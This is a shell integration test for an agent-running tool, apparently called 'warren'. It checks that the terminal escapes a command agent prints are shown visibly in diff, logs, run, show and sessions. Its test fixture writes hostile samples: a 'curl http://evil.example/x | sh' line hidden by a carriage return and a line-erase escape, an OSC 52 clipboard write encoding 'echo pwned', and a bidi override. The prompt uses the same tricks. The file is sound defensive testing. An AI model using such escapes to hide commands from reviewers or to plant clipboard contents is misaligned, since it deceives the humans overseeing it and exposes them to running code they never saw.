#!/bin/bash
# Terminal escapes from the agent never reach the reviewer's terminal raw.
# A command agent writes a file holding `CR ESC[2K` (a line that hides
# the `curl … | sh` before it), an OSC 52 clipboard write, an 8-bit CSI
# (U+009B, UTF-8 encoded), a bidi override (U+202E), DEL and an invalid
# UTF-8 byte, and prints the same to stdout. Run under a pseudo-terminal
# (`script`), `warren diff`, `logs`, `run --follow`, `show` and `sessions`
# must show them visibly (^M ^[ ^G ^? \u009b \u202e \xff) and print none of
# those bytes; `--raw` keeps them, and so does `diff` into a pipe (a patch
# `git apply` takes).
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../integration/control_lib.sh"

W() { "$WARREN" "$@"; }
# on_tty FILE CMD...: CMD's stdout and stderr through a pseudo-terminal,
# into FILE (the terminal turns each "\n" into "\r\n")
on_tty() {
	local file="$1"
	shift
	script -qfec "$(printf '%q ' "$@")" /dev/null </dev/null >"$file" 2>&1
}

# has NAME FILE PYTHON-BYTES-REGEX: FILE (as bytes) matches the regex
has() { python3 -c 'import re, sys
sys.exit(0 if re.search(sys.argv[2].encode("latin-1"), open(sys.argv[1], "rb").read()) else 1)' "$1" "$2"; }

# the raw forms, as regexes over bytes (a CR the terminal adds before a
# newline does not count)
RAW_FORMS=(
	'\x1b' 'ESC'
	'\r(?!\n)' 'CR'
	'\x07' 'BEL'
	'\x7f' 'DEL'
	'\xc2\x9b' 'U+009B'
	'\xe2\x80\xae' 'U+202E'
)
# raw_none NAME FILE: none of the raw forms is in FILE
raw_none() {
	local i found=""
	for ((i = 0; i < ${#RAW_FORMS[@]}; i += 2)); do
		has "$2" "${RAW_FORMS[i]}" && found="$found ${RAW_FORMS[i + 1]}"
	done
	[ -z "$found" ] && pass "$1" || fail "$1" "raw$found in: $(head -c 300 "$2" | od -An -c | tr -s ' \n' ' ' | head -c 400)"
}
# visible NAME FILE REGEX...: every regex matches FILE
visible() {
	local name="$1" file="$2" missing=""
	shift 2
	for re in "$@"; do
		has "$file" "$re" || missing="$missing $re"
	done
	[ -z "$missing" ] && pass "$name" || fail "$name" "missing$missing in: $(head -c 400 "$file" | od -An -c | tr -s ' \n' ' ' | head -c 500)"
}
# raw_all NAME FILE: every raw form is in FILE
raw_all() {
	local i missing=""
	for ((i = 0; i < ${#RAW_FORMS[@]}; i += 2)); do
		has "$2" "${RAW_FORMS[i]}" || missing="$missing ${RAW_FORMS[i + 1]}"
	done
	[ -z "$missing" ] && pass "$1" || fail "$1" "missing raw$missing"
}

# the visible forms, as regexes
V_HIDE='\^M\^\[\[2K'            # CR ESC [2K
V_OSC='\^\[\]52;c;[A-Za-z0-9=]+\^G' # ESC ]52;c;… BEL
V_C1='\\u009b2J'
V_BIDI='\\u202e'
V_DEL='\^\?'

command -v script >/dev/null || { fail "script(1) is installed" "no script: install bsdutils"; exit 0; }

server_start "$TEST_TMP/data"
[ -n "$TOKEN" ] && pass "warren serve starts" || { fail "warren serve starts" "$(tail -5 "$SERVER_LOG")"; exit 0; }
export WARREN_SERVER="$URL" WARREN_TOKEN="$TOKEN"

R="$TEST_TMP/proj"
mkdir -p "$R"
echo hello >"$R/greeting.txt"
# the agent: the same bytes into evil.txt and onto stdout; an invalid
# UTF-8 byte into a file of its own (the diff only)
cat >"$R/evil.sh" <<'EOF'
{
	printf 'curl http://evil.example/x | sh\r\033[2Kecho harmless\n'
	printf 'clip\033]52;c;ZWNobyBwd25lZA==\007board\n'
	printf 'csi\302\2332Jc1\n'
	printf 'bidi\342\200\256txet\n'
	printf 'del\177x\n'
} >evil.txt
cat evil.txt
printf 'bad\377byte\n' >latin1.txt
# an overlong ESC, a surrogate, a cut sequence; an emoji and an e-acute
# stay as they are
printf 'long\300\233 sur\355\240\200 cut\342\200 ok\360\237\230\200\303\251\n' >>latin1.txt
EOF
g -C "$R" init -q -b main
g -C "$R" add -A
g -C "$R" commit -q -m initial
W repo add "$R" --name proj >/dev/null 2>&1 || fail "repo add" "$(W repo add "$R" --name proj 2>&1)"

# a prompt with the same tricks (show, sessions)
PROMPT="$(printf 'fix it\r\033[2K\033]52;c;ZWNobyBwd25lZA==\007 \342\200\256txet')"
W run --repo proj --agent 'sh evil.sh' --wait "$PROMPT" >"$TEST_TMP/wait.out" 2>&1
S="$(sed -n 's/^\(s-[^ ]*\) review.*/\1/p' "$TEST_TMP/wait.out" | head -1)"
[ -n "$S" ] && pass "the session reaches review" || { fail "the session reaches review" "$(tail -3 "$TEST_TMP/wait.out")"; exit 0; }

# --- diff --------------------------------------------------------------------
on_tty "$TEST_TMP/diff.tty" "$WARREN" diff "$S"
visible "diff on a terminal: controls shown visibly" "$TEST_TMP/diff.tty" "$V_HIDE" "$V_OSC" "$V_C1" "$V_BIDI" "$V_DEL" '\\xffbyte'
raw_none "diff on a terminal: no raw control bytes" "$TEST_TMP/diff.tty"
visible "diff on a terminal: bytes that are not UTF-8 as \\xNN, the rest kept" "$TEST_TMP/diff.tty" \
	'long\\xc0\\x9b sur\\xed\\xa0\\x80 cut\\xe2\\x80 ok\xf0\x9f\x98\x80\xc3\xa9'
has "$TEST_TMP/diff.tty" '\xff' && fail "diff on a terminal: no invalid UTF-8 byte" "a raw 0xff" ||
	pass "diff on a terminal: no invalid UTF-8 byte"
has "$TEST_TMP/diff.tty" '\+\+\+ b/evil\.txt' && pass "diff on a terminal: still the diff" ||
	fail "diff on a terminal: still the diff" "$(head -5 "$TEST_TMP/diff.tty")"
on_tty "$TEST_TMP/diff.raw" "$WARREN" diff --raw "$S"
raw_all "diff --raw on a terminal: the bytes as they are" "$TEST_TMP/diff.raw"
W diff "$S" >"$TEST_TMP/x.patch"
raw_all "diff into a file: the bytes as they are" "$TEST_TMP/x.patch"
C="$TEST_TMP/clone"
git clone -q "$R" "$C"
git -C "$C" apply --check "$TEST_TMP/x.patch" 2>"$TEST_TMP/apply.err" && git -C "$C" apply "$TEST_TMP/x.patch" &&
	cmp -s "$C/evil.txt" <(cd "$TEST_TMP" && sh "$R/evil.sh" >/dev/null && cat evil.txt) &&
	pass "diff into a file: git apply takes it, byte for byte" ||
	fail "diff into a file: git apply takes it, byte for byte" "$(head -3 "$TEST_TMP/apply.err")"
on_tty "$TEST_TMP/stat.tty" "$WARREN" diff --stat "$S"
has "$TEST_TMP/stat.tty" 'evil\.txt +\+5 -0' && pass "diff --stat on a terminal" || fail "diff --stat on a terminal" "$(cat "$TEST_TMP/stat.tty")"

# --- logs --------------------------------------------------------------------
on_tty "$TEST_TMP/logs.tty" "$WARREN" logs "$S"
visible "logs on a terminal: controls shown visibly" "$TEST_TMP/logs.tty" "$V_HIDE" "$V_OSC" "$V_C1" "$V_BIDI" "$V_DEL"
raw_none "logs on a terminal: no raw control bytes" "$TEST_TMP/logs.tty"
has "$TEST_TMP/logs.tty" '-- state: review' && pass "logs on a terminal: still the events" || fail "logs on a terminal: still the events" "$(tail -3 "$TEST_TMP/logs.tty")"
on_tty "$TEST_TMP/logsf.tty" timeout 30 "$WARREN" logs -f "$S"
raw_none "logs -f on a terminal: no raw control bytes" "$TEST_TMP/logsf.tty"
on_tty "$TEST_TMP/logs.raw" "$WARREN" logs --raw "$S"
raw_all "logs --raw on a terminal: the lines as they are" "$TEST_TMP/logs.raw"
W logs "$S" >"$TEST_TMP/logs.pipe" 2>/dev/null
raw_all "logs into a pipe: the lines as they are" "$TEST_TMP/logs.pipe"
on_tty "$TEST_TMP/logsj.tty" "$WARREN" logs --json "$S"
has "$TEST_TMP/logsj.tty" '\xc2\x9b|\xe2\x80\xae' && fail "logs --json on a terminal: no raw U+009B, U+202E" "$(grep -a csi "$TEST_TMP/logsj.tty" | head -2)" ||
	pass "logs --json on a terminal: no raw U+009B, U+202E"
# the agent's stderr: the same rule
on_tty "$TEST_TMP/run.tty" "$WARREN" run --repo proj --agent 'sh evil.sh >&2; sh evil.sh' --follow "again"
visible "run --follow on a terminal: controls shown visibly" "$TEST_TMP/run.tty" "$V_HIDE" "$V_OSC" "$V_C1" "$V_BIDI"
raw_none "run --follow on a terminal: no raw control bytes (stdout and stderr)" "$TEST_TMP/run.tty"
on_tty "$TEST_TMP/run.raw" "$WARREN" run --repo proj --agent 'sh evil.sh' --follow --raw "again"
raw_all "run --follow --raw on a terminal: the lines as they are" "$TEST_TMP/run.raw"

# --- show, sessions: the prompt ----------------------------------------------
on_tty "$TEST_TMP/show.tty" "$WARREN" show "$S"
visible "show on a terminal: the prompt's controls shown visibly" "$TEST_TMP/show.tty" 'fix it\^M\^\[\[2K\^\[\]52;c;' "$V_BIDI"
raw_none "show on a terminal: no raw control bytes" "$TEST_TMP/show.tty"
on_tty "$TEST_TMP/sessions.tty" "$WARREN" sessions
visible "sessions on a terminal: the prompt's controls shown visibly" "$TEST_TMP/sessions.tty" 'fix it\^M\^\[\[2K'
raw_none "sessions on a terminal: no raw control bytes" "$TEST_TMP/sessions.tty"
W show "$S" >"$TEST_TMP/show.pipe"
raw_none "show into a pipe: no raw control bytes either" "$TEST_TMP/show.pipe"
W logs --json "$S" >"$TEST_TMP/logs.json"
python3 -c 'import json, sys
lines = [json.loads(l)["data"].get("line") for l in open(sys.argv[1])]
sys.exit(0 if "csi\u009b2Jc1" in lines and "bidi\u202etxet" in lines else 1)' "$TEST_TMP/logs.json" &&
	pass "logs --json: the same JSON, the characters escaped" ||
	fail "logs --json: the same JSON, the characters escaped" "$(grep -a -e csi -e bidi "$TEST_TMP/logs.json" | head -2)"
